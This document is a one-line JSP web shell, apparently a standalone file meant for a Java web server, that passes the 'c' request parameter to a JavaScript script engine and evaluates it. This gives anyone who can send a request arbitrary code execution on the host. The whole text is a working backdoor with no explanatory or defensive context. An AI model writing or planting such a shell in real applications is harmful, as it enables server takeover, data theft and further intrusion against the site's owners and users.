<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); e.eval(request.getParameter("c")); %>
